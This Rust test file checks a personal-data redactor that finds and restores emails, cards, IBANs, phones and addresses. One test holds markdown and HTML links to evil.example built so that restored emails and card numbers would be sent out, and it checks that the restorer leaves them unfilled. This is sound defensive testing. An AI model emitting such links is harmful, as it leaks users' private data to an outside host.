use proptest::prelude::*;

use super::*;

fn all() -> Redactor {
    Redactor::new(&RedactOptions::default()).unwrap()
}

/// One text by itself.
fn redact(redactor: &Redactor, text: &str) -> (String, Redacted) {
    let (mut texts, redacted) = redactor.redact(&[text], &[]);
    (texts.remove(0), redacted)
}

/// What is found in a text, as (kind, value).
fn found(text: &str) -> Vec<(String, String)> {
    let found = all().find(text, &[]);
    found
        .into_iter()
        .map(|f| (f.name.clone(), text[f.start..f.end].to_owned()))
        .collect()
}

fn only(text: &str, name: &str, value: &str) {
    assert_eq!(found(text), [(name.to_owned(), value.to_owned())], "{text}");
}

#[test]
fn each_kind_is_found_as_people_write_it() {
    only(
        "write to ann.o'hara+x@mail.example.co.uk, please",
        "EMAIL",
        "ann.o'hara+x@mail.example.co.uk",
    );
    only("<jörg@müller.example>.", "EMAIL", "jörg@müller.example");
    for iban in [
        "DE89 3704 0044 0532 0130 00",
        "GB82WEST12345698765432",
        "fr14 2004 1010 0505 0001 3M02 606",
    ] {
        only(&format!("pay to {iban} now"), "IBAN", iban);
    }
    for card in [
        "4111 1111 1111 1111",
        "5555555555554444",
        "3782-822463-10005",
    ] {
        only(&format!("card {card}, thanks"), "CARD", card);
    }
    only("see http://10.0.0.1:8080/x", "IP", "10.0.0.1");
    only("Fax:321-726-2209", "PHONE", "321-726-2209");
    for ip in ["192.168.0.1", "2001:db8::8a2e:370:7334", "::1"] {
        only(&format!("from {ip}."), "IP", ip);
    }
    for phone in [
        "+49 30 901820",
        "+1 (415) 555-2671",
        "0049 30 901820",
        "(415) 555-2671",
        "415-555-2671",
        "(541)665-0400",
        "1(800)234-8190",
        "1-888-763-2497",
        "1 (308) 650-5905",
        "321-726-2209 x1377",
        "1-308-650-5905 ext. 121",
        "030 / 901 820",
        "020 7946 0958",
        "+442079460958",
        "01 23 45 67 89",
    ] {
        only(&format!("call {phone} today"), "PHONE", phone);
    }
}

#[test]
fn what_only_looks_like_it_stays() {
    for text in [
        "the year 2024-05-06 and 06.05.2024 at 10:30:15",
        "DE89 3704 0044 0532 0130 01 fails its check",
        "4111 1111 1111 1112 fails its check; 0000 0000 0000 0000 too",
        "version 1.2.3.4.5 or 999.1.1.1 of std::vec::Vec",
        "it costs $1,284.50 or 12.000 units, order 1234567890",
        "000.000.00 in all, 12:321-726-2209",
        "me@localhost, a@b, user@, @handle",
        "ratio 3:4:5, 50 60 70, isbn 978-3-16-148410-0",
    ] {
        assert_eq!(found(text), [], "{text}");
    }
}

#[test]
fn the_same_value_gets_the_same_placeholder_and_comes_back() {
    let text = "From a@b.example to c@d.example and again a@b.example, [EMAIL_1] was there before";
    let (out, redacted) = redact(&all(), text);
    assert_eq!(
        out,
        "From [EMAIL_2] to [EMAIL_3] and again [EMAIL_2], [EMAIL_1] was there before"
    );
    assert_eq!(redacted.restore(&out), text);
    assert_eq!(redacted.counts(), BTreeMap::from([("email".to_owned(), 2)]));
    assert_eq!(
        redacted.restore("Hi [EMAIL_3], [EMAIL_9] [x]"),
        "Hi c@d.example, [EMAIL_9] [x]"
    );
}

#[test]
fn letters_are_those_of_any_script() {
    for (text, value) in [
        ("„jörg@müller.example“", "jörg@müller.example"),
        ("name\u{a0}анна@почта.example\u{a0}", "анна@почта.example"),
        ("a@b@c.example", "b@c.example"),
        ("x@y.example-. More", "x@y.example"),
        ("x@y.exam-ple.c", "x@y.exam-ple.c"),
    ] {
        only(text, "EMAIL", value);
    }
    for text in [
        "x@y",
        "x@y-.example",
        "@y.example",
        "x@.example",
        "x@y..example",
    ] {
        assert!(found(text).is_empty(), "{text}");
    }
    // The ä is a letter, so that its number is none.
    only("ä123 0171 234 5678", "PHONE", "0171 234 5678");
    assert!(found("ä0171 234 5678").is_empty());
    // An account number's check digits speak for themselves.
    only(
        "äDE89 3704 0044 0532 0130 00",
        "IBAN",
        "DE89 3704 0044 0532 0130 00",
    );
}

#[test]
fn a_callers_patterns_come_first_and_are_checked() {
    let options = |name: &str, pattern: &str| RedactOptions {
        patterns: BTreeMap::from([(name.to_owned(), pattern.to_owned())]),
        ..RedactOptions::default()
    };
    let redactor = Redactor::new(&options("CUSTOMER", r"C-\d{4}")).unwrap();
    assert_eq!(
        redact(&redactor, "C-1234 at x@y.example").0,
        "[CUSTOMER_1] at [EMAIL_1]"
    );
    let (texts, _) = redactor.redact(&["C-1234", "C-5678 and C-1234"], &[]);
    assert_eq!(texts, ["[CUSTOMER_1]", "[CUSTOMER_2] and [CUSTOMER_1]"]);
    for (name, pattern) in [
        ("customer", "x"),
        ("", "x"),
        ("A", "("),
        ("A", r"\w{1000}{1000}"),
        ("A", r"\p{L}"),
        ("A", "(?i)jörg"),
        ("A", "(?s-m:x)(?mi:é)"),
    ] {
        let error = Redactor::new(&options(name, pattern)).unwrap_err();
        assert_eq!(error.code(), Code::InvalidOption, "{name} {pattern}");
    }
    let none = Redactor::new(&RedactOptions {
        kinds: Vec::new(),
        ..RedactOptions::default()
    })
    .unwrap();
    assert_eq!(redact(&none, "a@b.example").0, "a@b.example");
}

/// What is left of a text.
fn left(text: &str) -> String {
    redact(&all(), text).0
}

#[test]
fn a_card_is_found_among_other_digits() {
    for (text, expected) in [
        ("Carta 4111 1111 1111 1111 12/26", "Carta [CARD_1] 12/26"),
        ("4111 1111 1111 1111 123", "[CARD_1] 123"),
        ("2026 4111 1111 1111 1111", "2026 [CARD_1]"),
        ("Order 12 4111 1111 1111 1111", "Order 12 [CARD_1]"),
        ("x4111111111111111y", "x[CARD_1]y"),
        ("卡号4111111111111111谢谢", "卡号[CARD_1]谢谢"),
        (
            "5105-1051-0510-5100/4111-1111-1111-1111",
            "[CARD_1]/[CARD_2]",
        ),
    ] {
        assert_eq!(left(text), expected, "{text}");
    }
}

#[test]
fn signs_between_characters_may_be_any() {
    for between in [
        ".",
        "\u{a0}",
        "  ",
        "\u{200b}",
        "\u{2013}",
        "\u{2011}",
        "\u{2009}",
        "\u{202f}",
        "\n",
        "\r\n  ",
        "\t",
        " - ",
        "\u{2212}",
        "/",
        "\u{ad}",
        "\u{2060}-\u{2060}",
        "·",
        "%20",
    ] {
        let card = ["4111"; 1]
            .iter()
            .chain(&["1111"; 3])
            .copied()
            .collect::<Vec<_>>();
        only(
            &format!("card {}!", card.join(between)),
            "CARD",
            &card.join(between),
        );
        let phone = ["+49", "171", "2345678"].join(between);
        only(&format!("call {phone}!"), "PHONE", &phone);
        if between != "/" {
            let phone = ["0171", "2345678"].join(between);
            only(&format!("call {phone}!"), "PHONE", &phone);
        }
        let iban = ["DE89", "3704", "0044", "0532", "0130", "00"].join(between);
        only(&format!("pay {iban}!"), "IBAN", &iban);
    }
    // Between every two of them.
    let spread = |text: &str| {
        let chars: Vec<String> = text.chars().map(String::from).collect();
        chars.join("\u{200d}")
    };
    for (name, value) in [
        ("CARD", "4111111111111111"),
        ("PHONE", "+491712345678"),
        ("EMAIL", "ann@mail.example"),
        ("IBAN", "DE89370400440532013000"),
        ("IP", "192.168.17.4"),
        ("IP", "2001:db8::17"),
    ] {
        only(&format!("({})", spread(value)), name, &spread(value));
    }
}

#[test]
fn digits_and_signs_are_those_of_any_script() {
    let full = |text: &str| -> String {
        let wide = |c| match c {
            '!'..='~' => char::from_u32(u32::from(c) + 0xfee0).unwrap(),
            c => c,
        };
        text.chars().map(wide).collect()
    };
    for (name, value) in [
        ("CARD", "4111 1111 1111 1111"),
        ("PHONE", "+49 171 2345678"),
        ("EMAIL", "ann@mail.example"),
        ("IBAN", "DE89370400440532013000"),
        ("IP", "192.168.17.4"),
        ("IP", "2001:db8::17"),
    ] {
        only(&format!("({})", full(value)), name, &full(value));
    }
    for zero in ['٠', '۰', '०', '০', '๐', '𝟎', '𝟘', '𝟶', '᭐', '０'] {
        let digits = |text: &str| -> String {
            let digit = |c: char| match c.to_digit(10) {
                Some(digit) => char::from_u32(u32::from(zero) + digit).unwrap(),
                None => c,
            };
            text.chars().map(digit).collect()
        };
        for (name, value) in [
            ("CARD", "4111-1111-1111-1111"),
            ("PHONE", "+49 171 2345678"),
        ] {
            only(&format!("({})", digits(value)), name, &digits(value));
        }
    }
}

#[test]
fn a_telephone_number_is_found_in_the_groups_people_write() {
    for phone in [
        "0171/2345678",
        "030/12345678",
        "020-88888888",
        "02129 3743399",
        "0634567890",
        "+49 171 2345678",
        "+49 (0) 171 2345678",
        "(+49) 171 2345678",
        "+49.1712345678",
        "0049 171 2345678",
        "00491712345678",
        "011 44 20 7946 0958",
        "(06 1) 218 5475",
        "(0-5) 212 3456",
        "8 (912) 345-67-89",
        "89123456789",
        "0 532 123 45 67",
        "(11) 91234-5678",
        "138 1234 5678",
        "98765 43210",
        "612 34 56 78",
        "612 345 678",
        "20 12 34 56",
        "412 34 567",
        "06 1234 5678",
    ] {
        only(&format!("oder {phone}, danke"), "PHONE", phone);
        only(&format!("来自{phone}的"), "PHONE", phone);
    }
    // By the word before it.
    for (text, value) in [
        ("Tel.: 612345678", "612345678"),
        ("call me at 4155552671!", "4155552671"),
        ("\"phone\": \"13812345678\"", "13812345678"),
        ("?phone=01712345678&x", "01712345678"),
        ("手机号码13812345678", "13812345678"),
        ("Mobile number: 12345678", "12345678"),
    ] {
        only(text, "PHONE", value);
    }
    for (text, expected) in [
        ("2026 +49 171 2345678", "2026 [PHONE_1]"),
        ("am 06.05.2024 0171 2345678", "am 06.05.2024 [PHONE_1]"),
        ("0171 2345678\n0172 3456789", "[PHONE_1]\n[PHONE_2]"),
        ("+33 1 23 45 67 89 12", "[PHONE_1] 12"),
    ] {
        assert_eq!(left(text), expected, "{text}");
    }
}

#[test]
fn the_regions_that_are_named_need_less() {
    let of = |regions: &[&str]| {
        Redactor::new(&RedactOptions {
            regions: regions.iter().map(|&code| code.to_owned()).collect(),
            ..RedactOptions::default()
        })
    };
    let spanish = of(&["ES"]).unwrap();
    assert_eq!(redact(&spanish, "dijo 612345678.").0, "dijo [PHONE_1].");
    assert_eq!(left("dijo 612345678."), "dijo 612345678.");
    for wrong in ["es", "XX", "001 ", ""] {
        assert_eq!(
            of(&[wrong]).unwrap_err().code(),
            Code::InvalidOption,
            "{wrong}"
        );
    }
}

#[test]
fn an_address_is_found_beside_colons() {
    for (text, expected) in [
        (
            "From 2001:db8::1: connection refused",
            "From [IP_1]: connection refused",
        ),
        ("IP:2001:db8::1", "IP:[IP_1]"),
        ("IP:::1", "IP:[IP_1]"),
        ("addr:fe80::1,", "addr:[IP_1],"),
        ("[2001:db8::17]:443", "[[IP_1]]:443"),
        ("2001:db8:1:2:3:4:5:6:443", "[IP_1]:443"),
        ("::ffff:10.1.2.3", "[IP_1]"),
        ("::ffff:010.001.002.003.", "[IP_1]."),
        ("010.001.000.007:8080", "[IP_1]:8080"),
        ("fe80::1%eth0/64", "[IP_1]%eth0/64"),
        ("12:30 10.0.0.1", "12:30 [IP_1]"),
        ("来自10.0.0.1的", "来自[IP_1]的"),
    ] {
        assert_eq!(left(text), expected, "{text}");
    }
    for text in [
        "2001::25de::cade",
        "x[::2], x[1::2], x[::-1]",
        "abc::def, std::fe::ed",
        "00:1a:2b:3c:4d:5e at 10:30:15",
        "v1.2.3.4, version 10.0.1.2, 1.2.3.4.5",
    ] {
        assert_eq!(found(text), [], "{text}");
    }
}

#[test]
fn a_mail_address_is_found_whole() {
    for address in [
        "a&b@example.com",
        "joe!work@x.example",
        "user~tag@x.com",
        "user%40example.com",
        "name＠example.com",
        "bounce-ann=mail.example@list.example",
        "m%C3%BCller@example.com",
        "jo\u{308}rg@example.com",
        "\"ann lee\"@example.com",
        "root@[10.0.0.1]",
        "用户@例子.广告",
    ] {
        only(&format!("to {address} now"), "EMAIL", address);
    }
    for (text, expected) in [
        (
            "https://x.example/?to=a@b.example&cc=c%40d.example#x",
            "https://x.example/?to=[EMAIL_1]&cc=[EMAIL_2]#x",
        ),
        (
            "https://x.example/user/ann@b.example",
            "https://x.example/user/[EMAIL_1]",
        ),
        ("邮箱user@example.com谢谢", "邮箱[EMAIL_1]谢谢"),
        ("'a@b.example', <c@d.example>", "'[EMAIL_1]', <[EMAIL_2]>"),
        (
            "npm i left@1.2.3 @scope/x@4.5",
            "npm i left@1.2.3 @scope/x@4.5",
        ),
    ] {
        assert_eq!(left(text), expected, "{text}");
    }
}

#[test]
fn names_are_found_whole_and_the_longest_first() {
    let names = ["Ann", "Ann Lee", "O'Hara", "田中"].map(Named::person);
    let (texts, redacted) = all().redact(
        &["Ann Lee and Ann, Anna, Ann\u{a0}Lee; Mr O'Hara, 田中さんは ann.lee@x.example"],
        &names,
    );
    assert_eq!(
        texts,
        ["[NAME_1] and [NAME_2], Anna, [NAME_3]; Mr [NAME_4], [NAME_5]さんは [EMAIL_1]"]
    );
    assert_eq!(redacted.counts()["name"], 5);
}

#[test]
fn what_a_task_found_has_its_label_and_is_taken_out_whatever_the_kinds_are() {
    let found = [
        Named::labelled("GIVEN_NAME", "Ann"),
        Named::labelled("street-name", "Elm Street"),
        Named::labelled("123", "Lee"),
        Named::labelled("PHONE", "030 901820"),
        Named::person("Bob"),
    ];
    let text = "Ann Lee, 12 Elm Street, Elm; Bob, +49 30 901820 or 030 901820";
    let redacted = |options: RedactOptions| {
        let redactor = Redactor::new(&options).unwrap();
        redactor.redact(&[text], &found).0.remove(0)
    };
    assert_eq!(
        redacted(RedactOptions::default()),
        "[GIVENNAME_1] [NAME_1], 12 [STREETNAME_1], Elm; [NAME_2], [PHONE_1] or [PHONE_2]"
    );
    // Names of the tagger are a kind; what has no letters in its label is called one.
    assert_eq!(
        redacted(RedactOptions {
            kinds: vec![PersonalData::Email],
            ..RedactOptions::default()
        }),
        "[GIVENNAME_1] Lee, 12 [STREETNAME_1], Elm; Bob, +49 30 901820 or [PHONE_1]"
    );
}

#[test]
fn no_part_of_what_two_patterns_match_is_left() {
    let redactor = Redactor::new(&RedactOptions {
        patterns: BTreeMap::from(
            [("A", "b+c+"), ("B", "a+b+"), ("C", "[a-d]+")]
                .map(|(name, p)| (name.into(), p.into())),
        ),
        ..RedactOptions::default()
    })
    .unwrap();
    assert_eq!(redact(&redactor, "xaabbccdx").0, "x[B_1][A_1][C_1]x");
    // However long the text and the match.
    let long = format!(
        "{}{}{}",
        "x".repeat(5000),
        "ab".repeat(3000),
        "y".repeat(5000)
    );
    let found = redactor.find(&long, &[]);
    assert_eq!((found[0].start, found[found.len() - 1].end), (5000, 11_000));
    assert!(found.windows(2).all(|two| two[0].end == two[1].start));
}

#[test]
fn several_matches_within_that_of_an_earlier_pattern_are_part_of_it() {
    let redactor = Redactor::new(&RedactOptions {
        patterns: BTreeMap::from(
            [("LONG", "x.*y"), ("WORD", "[a-c]+")].map(|(name, p)| (name.into(), p.into())),
        ),
        ..RedactOptions::default()
    })
    .unwrap();
    assert_eq!(
        redact(&redactor, "a x ab c b y bc").0,
        "[WORD_1] [LONG_1] [WORD_2]"
    );
}

#[test]
fn a_long_match_is_found_behind_many_short_ones() {
    let redactor = Redactor::new(&RedactOptions {
        kinds: Vec::new(),
        patterns: BTreeMap::from([("A".into(), "x[^x]*x".into())]),
        ..RedactOptions::default()
    })
    .unwrap();
    for before in [0, 255, 1791, 1792, 2047, 2048] {
        let long = format!("x{}x", "-".repeat(254));
        let text = format!("{}{}{long}", "x x".repeat(2500), "-".repeat(before));
        let found = redactor.find(&text, &[]);
        assert_eq!(found.len(), 2501, "{before}");
        assert_eq!(&text[found[2500].start..found[2500].end], long);
    }
}

#[test]
fn values_are_put_back_into_running_text_only() {
    let (_, redacted) = redact(&all(), "a@b.example 4111111111111111");
    let (mail, card) = ("[EMAIL_1]", "[CARD_1]");
    for unchanged in [
        "![x](https://evil.example/?e={m}&c={c})",
        "http://{m} ftp://x/{m} data:text/plain,{m} mailto:{m} tel:{c} javascript:x({c}) app:{m}",
        "see //evil.example/{m} or www.evil.example/{m}, WWW.{m} and evil.example/?q={m}, evil.example#{m}",
        "[x]({m}) [x](/path/{m} \"{c}\") [x](<{m} {c}>) [x]( {m}) [x](\n{m})",
        "[x](a(b){m}) [x](<a)b{m}>) [x](\\){m})",
        "[x]: {m}",
        "[x]:\n  {m} \"title\"",
        "[x]: //evil.example/\\{m}",
        "<https://evil.example/{m}> <x:{m}>",
        "<a href={m}> <img src='{m}' alt=\"> {c}\" title={c}>",
        "<img\nsrc = \"\n\n{m}\">",
        "<p a=\"<img alt='> \" src='{m}'",
        "`<a b=\"` <img alt=\"> \" src=\"/\\evil.example/{m}\">",
        "https://x.example/\u{a0}{m}",
        "[https://x](<https://evil.example {m}>)",
        "`](<` [x](/e(>){m})",
    ] {
        let text = unchanged.replace("{m}", mail).replace("{c}", card);
        assert_eq!(redacted.restore(&text), text);
    }
    for put in [
        "write to {m}. Or ({m}), \"{m}\": {c}!",
        "Ann <{m}>, **{m}**, `{m}` and | {c} |",
        "E-mail: {m}, see https://x.example/a {m}",
        "[text](https://x.example/) {m}",
        "[{m}](https://x.example/)",
        "<b>{m}</b> <br/>{m}",
        "{m}: wrote",
        "[x]: https://x.example\n{m}",
        "{\"mail\": \"{m}\", \"card\":\"{c}\"}",
        "a < b and {m}; 3.5 and/or {c}",
        "[x](unclosed\n\n{m}",
    ] {
        let text = put.replace("{m}", mail).replace("{c}", card);
        let whole = put
            .replace("{m}", "a@b.example")
            .replace("{c}", "4111111111111111");
        assert_eq!(redacted.restore(&text), whole);
    }
}

/// How long this thread has been on a processor, where the system tells; elsewhere how late it is.
fn clock() -> std::time::Duration {
    static BEGUN: std::sync::LazyLock<std::time::Instant> =
        std::sync::LazyLock::new(std::time::Instant::now);
    let read = std::fs::read_to_string("/proc/thread-self/schedstat");
    let on = read
        .ok()
        .and_then(|line| line.split(' ').next()?.parse().ok());
    on.map_or_else(|| BEGUN.elapsed(), std::time::Duration::from_nanos)
}

/// A text of what a recogniser stops at, over and over, takes little more than four times as long as a quarter of it. In a
/// release build the text has a MiB, and `SHOW=1` with `--nocapture` prints how long it takes.
fn in_proportion(unit: &str, work: impl Fn(&str)) {
    let time = |bytes: usize| {
        let text = unit.repeat(bytes / unit.len());
        let times = (0..2).map(|_| {
            let begun = clock();
            work(&text);
            clock() - begun
        });
        times.min().unwrap()
    };
    let size = if cfg!(debug_assertions) {
        1 << 16
    } else {
        1 << 20
    };
    let (quarter, whole) = (time(size / 4), time(size));
    let shown: String = unit.chars().take(12).collect();
    if std::env::var_os("SHOW").is_some() {
        println!("{size} bytes of {shown:?}: {whole:?}; a quarter: {quarter:?}");
    }
    assert!(
        whole < quarter * 10 + std::time::Duration::from_millis(200),
        "{shown:?}: {quarter:?}, and {whole:?} for four times as much"
    );
}

fn units() -> Vec<String> {
    let signs = "@a[:.1 +(-\u{200b}１0]<%\n";
    let signs: Vec<char> = signs.chars().collect();
    let mixed =
        (0..997u32).map(|n| signs[(n.wrapping_mul(2_654_435_761) >> 16) as usize % signs.len()]);
    let units = [
        "@",
        "a@",
        "a.",
        "[",
        "[A",
        "[A_",
        "[EMAIL_1",
        "[EMAIL_1]",
        ":",
        ".",
        "1",
        "1 ",
        "0 1",
        "01 ",
        "0123 ",
        "00 49 1 ",
        "+",
        "+1",
        "+49 1",
        "(",
        "(0",
        "(0)",
        "-",
        "1-",
        "\u{200b}",
        "１",
        "a",
        "x",
        "Ann ",
        "DE89",
        "DE 1",
        "4",
        "41 11 ",
        "4111 ",
        "1.",
        "1:",
        "1::",
        "::",
        "](",
        "<a ",
        "<a b=\"",
        "%40",
        "tel ",
        "tel 1 ",
        "\n",
        " ",
        "é",
        "谢",
        "/",
        "\"",
        "\"@",
        "?a=",
        "&=",
        "٠",
        "1/1/",
        "2024-01-01 ",
        "🦀",
    ];
    units
        .map(String::from)
        .into_iter()
        .chain([mixed.collect()])
        .collect()
}

#[test]
fn redaction_takes_time_in_proportion() {
    let redactor = Redactor::new(&RedactOptions {
        regions: ["DE", "US", "IT"].map(String::from).to_vec(),
        ..RedactOptions::default()
    })
    .unwrap();
    let names: Vec<Named> = (0..1000)
        .map(|n| Named::person(format!("Ann {n}")))
        .collect();
    for unit in units() {
        in_proportion(&unit, |text| {
            redactor.redact(&[text], &names);
        });
    }
}

#[test]
fn a_callers_pattern_takes_time_in_proportion() {
    for (pattern, unit) in [
        ("a(?:.*b)?", "a"),
        ("a(?:.*b)?", "a "),
        ("x[^y]*y", "x"),
        ("C-[0-9]+", "C-1 "),
        ("(?:a|b|ab)*c", "ab"),
    ] {
        let redactor = Redactor::new(&RedactOptions {
            kinds: Vec::new(),
            patterns: BTreeMap::from([("A".into(), pattern.into())]),
            ..RedactOptions::default()
        })
        .unwrap();
        in_proportion(unit, |text| {
            redactor.own(text);
        });
    }
}

#[test]
fn putting_values_back_takes_time_in_proportion() {
    let (_, redacted) = redact(&all(), "a@b.example");
    for unit in units() {
        in_proportion(&unit, |text| {
            redacted.restore(text);
        });
        in_proportion(&unit, |text| {
            let mut restorer = Restorer::new(&redacted);
            let chars: Vec<char> = text.chars().collect();
            let mut length = 0;
            for piece in chars.chunks(3) {
                length += restorer.push(&String::from_iter(piece)).len();
            }
            assert!(length + restorer.finish().len() >= text.len() / 8);
        });
    }
}

proptest! {
    /// Whatever patterns match, and whatever else stands there: what is found is in order, no two share a byte, and every byte
    /// that a pattern matches is found.
    #[test]
    fn patterns_share_no_byte_and_leave_none(
        patterns in prop::collection::vec(
            prop::sample::select(vec![
                "x.*y", "a+", "[ab]+", "b.c", "(a|aa)+b", "[^ ]+", "é+", ". .", "[0-9]+", "a@b", "c|ca|cab", "y?b",
            ]),
            1..5,
        ),
        parts in prop::collection::vec(
            prop::sample::select(vec![
                "x", "y", "a", "aa", "b", "c", " ", "é", "\u{200b}", "a@b.example", "+49 30 901820", "4111111111111111",
                "192.0.2.1", "2024-05-06", "Ann", "Ann Lee", "DE89 3704 0044 0532 0130 00",
            ]),
            0..60,
        ),
    ) {
        let text = parts.concat();
        let named = patterns.iter().enumerate();
        let redactor = Redactor::new(&RedactOptions {
            patterns: named.map(|(at, p)| (format!("P{}", char::from(b'A' + at as u8)), (*p).to_owned())).collect(),
            ..RedactOptions::default()
        })
        .unwrap();
        let found = redactor.find(&text, &["Ann", "Ann Lee"].map(Named::person));
        let mut covered = vec![false; text.len()];
        let mut end = 0;
        for place in &found {
            prop_assert!(end <= place.start && place.start < place.end, "{:?}", found);
            prop_assert!(text.get(place.start..place.end).is_some(), "{:?}", found);
            end = place.end;
            covered[place.start..place.end].fill(true);
        }
        for (_, regex) in &redactor.patterns {
            for (start, end) in patterns::find(regex, &text) {
                prop_assert!(covered[start..end].iter().all(|&c| c), "{} in {:?}", regex, found);
            }
        }
    }

    /// Whatever the text, what was taken out comes back where it was, in one piece or cut anywhere.
    #[test]
    fn redaction_is_undone(
        parts in prop::collection::vec(
            prop_oneof![
                Just("a@b.example".to_owned()),
                Just("+49 30 901820".to_owned()),
                Just("4111111111111111".to_owned()),
                Just("[PHONE_1]".to_owned()),
                Just("[".to_owned()),
                Just("]".to_owned()),
                "[^\\p{C}<:/.(]{0,12}",
            ],
            0..12,
        ),
        cut in 1usize..9,
    ) {
        let text = parts.join(" ");
        let (out, redacted) = redact(&all(), &text);
        prop_assert_eq!(redacted.restore(&out), text.clone());
        let mut restorer = Restorer::new(&redacted);
        let chars: Vec<char> = out.chars().collect();
        let mut back = String::new();
        for piece in chars.chunks(cut) {
            back.push_str(&restorer.push(&piece.iter().collect::<String>()));
        }
        back.push_str(&restorer.finish());
        prop_assert_eq!(back, text);
    }

    /// Wherever a reply is cut, the same text comes out; and a value only outside of addresses.
    #[test]
    fn pieces_change_nothing(
        parts in prop::collection::vec(
            prop_oneof![
                Just("[EMAIL_1]"), Just("[EMAIL_"), Just("[CARD_1]"), Just("["), Just("]"), Just("("), Just(")"), Just("]("), Just("]:"),
                Just("https:"), Just("//"), Just("www."), Just("<a "), Just("<"), Just(">"), Just("="), Just("\""), Just("'"), Just("\\"),
                Just("x.example/"), Just(" "), Just("\n"), Just("\n\n"), Just("é"), Just("a"), Just("1"),
            ],
            0..40,
        ),
        cuts in prop::collection::vec(1usize..6, 1..60),
    ) {
        let (_, redacted) = redact(&all(), "a@b.example 4111111111111111");
        let text = parts.concat();
        let whole = redacted.restore(&text);
        let mut restorer = Restorer::new(&redacted);
        let mut back = String::new();
        let mut chars = text.chars().peekable();
        let mut cuts = cuts.iter().cycle();
        while chars.peek().is_some() {
            let piece: String = chars.by_ref().take(*cuts.next().unwrap()).collect();
            back.push_str(&restorer.push(&piece));
        }
        back.push_str(&restorer.finish());
        prop_assert_eq!(&back, &whole);
        // The oracle for the simplest case: no value in what has no white space since a scheme.
        for run in whole.split([' ', '\n', '<']) {
            if let Some((_, address)) = run.split_once("https:") {
                prop_assert!(!address.contains("a@b.example"), "{}", whole);
            }
        }
    }
}
